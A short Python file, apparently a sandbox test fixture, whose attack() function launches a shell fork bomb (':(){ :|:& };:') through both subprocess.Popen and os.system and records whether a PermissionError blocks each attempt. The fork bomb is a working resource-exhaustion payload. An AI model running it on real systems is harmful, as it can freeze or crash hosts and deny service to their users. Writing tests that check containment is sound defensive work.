# ruff: noqa
"""A shell fork bomb, started through subprocess, and os.system for good measure."""

import os
import subprocess


def attack():
    try:
        subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"])
    except PermissionError as exc:
        first = str(exc)
    else:
        first = "started"
    try:
        os.system(":(){ :|:& };:")
    except PermissionError as exc:
        return first, str(exc)
    return first, "started"
